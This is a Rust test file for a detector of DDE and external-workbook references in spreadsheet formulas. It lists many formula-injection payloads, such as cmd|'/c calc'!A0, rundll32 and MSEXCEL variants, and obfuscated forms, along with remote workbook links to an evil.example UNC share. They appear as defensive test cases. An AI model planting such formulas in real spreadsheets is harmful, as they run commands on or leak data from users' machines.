//! What is a link to another program or book, and what only looks like one.

use super::*;

#[test]
fn links_to_other_programs() {
    for formula in [
        "cmd|'/c calc'!A0",
        "=cmd|'/c calc'!A0",
        "=  cmd|' /C calc'!'A0'",
        "= cmd | '/c calc' ! A0",
        "+cmd|'/c calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "@SUM(cmd|'/c calc'!A0)",
        "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
        "=rundll32|'URL.dll,OpenURL calc.exe'!A",
        "=AAAA+BBBB&\"Hello\"/12345&cmd|'/c calc.exe'!_xlbgnm.A1",
        "=IF(1,cmd|'/c x'!A0,2)",
        "='cmd'|'/c x'!A0",
        "=cmd|\"/c x\"!A0",
        "=c\0m\0d|'/c x'!A0",
        "=c\u{200b}md|'/c x'!A0",
        "=\"a|b\"&cmd|'/c x'!A0",
        "=\"it''s\"&Sheet1!A1&cmd|'/c x'!A0",
        "=A1&1|2+winword|doc!item",
        "=Word.Document.8|file!range",
        "DDE(\"cmd\";\"/c x\";\"y\")",
        "=1+dde (\"cmd\",\"/c\",\"x\")",
        "_xlfn.DDE(\"a\",\"b\",\"c\")",
    ] {
        assert!(is_dde(formula), "{formula}");
    }
}

#[test]
fn bars_that_ask_nobody() {
    for formula in [
        "@acme | Head of PR! Love coffee",
        "- Start | Register now!",
        "+Bonus | Nur heute!",
        "+49 30 1234|call first!",
        "@acme|CEO! Yes",
        "- Sale|Hot!",
        "- it's 5|6! isn't it",
        "+1|2!3",
        "\"Total|\"&Sheet2!A1",
        "A1&\"|\"&Sheet2!B1",
        "IF(A1=\"a|b\",Sheet2!B1,\"\")",
        "CONCATENATE(\"Ref|\",Sheet2!A1)",
        "TEXTJOIN(\"|\",TRUE,Sheet2!A1:A9)",
        "\"https://x.example/?q=\"&A1&\"a|b!\"",
        "\"Total|\"&[$S2.A1]&\"!\"",
        "\"say \"\"cmd|'/c x'!A0\"\"\"",
        "{1;2|3;4}*Sheet2!A1",
        "{TRUE|FALSE}*Sheet2!A1",
        "SUMADDE(1)",
        "\"DDE(\"&A1",
        "",
        "|",
        "a|",
        "|!",
        "'",
    ] {
        assert!(!is_dde(formula), "{formula}");
    }
}

#[test]
fn a_substance_and_handles_ask_nobody() {
    for formula in [
        "SUM(Table1[DDE (ng/g)])",
        "[[#This Row],[DDE (ng/g)]]*2",
        "SUM(Table1[[DDE (p,p\u{b4};o,p\u{b4})]:[DDE (a, b, c)]])",
        "DDE (metabolite)",
        "DDE(total)",
        "SUM(DDE (A1:A9), B1, C1)",
    ] {
        assert!(!is_dde(formula), "{formula}");
    }
    for formula in ["foo|bar!baz", " Login|user!pass", "nick|user!host", " DDE (a, b, c)", " Sale|Hot!now"] {
        assert!(!asks(formula, Written::Prose), "{formula}");
    }
    for formula in [
        "cmd|calc!A0",
        " foo|'/c calc'!A0",
        "foo|\\\\evil.example\\a!A0",
        "foo|system32/calc!A0",
        "SUM(1)*foo|calc.exe!A0",
        "DDE(\"cmd\";\"/c x\";\"y\")",
    ] {
        assert!(asks(formula, Written::Prose), "{formula}");
    }
    for formula in ["foo|bar!baz", "DDE (A1,B1,C1)", "Table1[a]*DDE(\"cmd\";A1;\"x\")", "[.A1]&DDE(A1;B1;C1)"] {
        assert!(is_dde(formula), "{formula}");
    }
}

#[test]
fn books_on_other_machines() {
    for (formula, expected) in [
        ("'\\\\evil.example\\share\\[B.XLSX]S'!A1", vec!["\\\\evil.example\\share\\B.XLSX"]),
        ("'C:\\a\\[x.xlsx]S'!A1+'\\\\evil.example\\[b.csv]S'!A1", vec!["\\\\evil.example\\b.csv"]),
        ("'\\\\h.example\\[b]S' !A1", vec!["\\\\h.example\\b"]),
        ("['https://h.example/x.ods'#$S.A1]", vec!["https://h.example/x.ods"]),
        ("SUM(\\\\h.example\\a\\[b.xls]S!A1)", vec!["\\\\h.example\\a\\b.xls"]),
        ("1+https://h.example/[b.xlsx]S!A1", vec!["https://h.example/b.xlsx"]),
        ("\"'\\\\h.example\\a'!A1\"", vec![]),
        ("'My sheet'!A1/2", vec![]),
    ] {
        let found = other_books(formula);
        assert_eq!(
            (found.remote.iter().map(String::as_str).collect::<Vec<_>>().as_slice(), found.is_cut),
            (expected.as_slice(), false),
            "{formula}"
        );
    }
}

#[test]
fn a_book_behind_many_others() {
    let last = "'\\\\evil.example\\share\\[B.xlsx]S'!A1";
    let own = |number: usize| format!("'C:\\a\\[x{number}.xlsx]S'!A1+");
    for formula in
        [(0..200).map(own).collect::<String>() + last, "'\\\\evil.example\\share\\[B.xlsx]T'!A1+".repeat(200) + last]
    {
        let found = other_books(&formula);
        assert_eq!(found, Books { remote: vec!["\\\\evil.example\\share\\B.xlsx".to_owned()], is_cut: false });
    }
    let other = |number: usize| format!("'\\\\h{number}.example\\a\\[b]S'!A1+");
    let found = other_books(&((0..BOOKS_MAX).map(other).collect::<String>() + last));
    assert!(found.is_cut && found.remote.len() == BOOKS_MAX, "{found:?}");
}

#[test]
fn texts_of_formulas() {
    assert_eq!(texts("A(\"a\"\"b\",'it\"s'!A1,\"c", 9), ["a\"b", "c"]);
    assert_eq!(texts("\"a\"&\"b\"", 1), ["a"]);
}
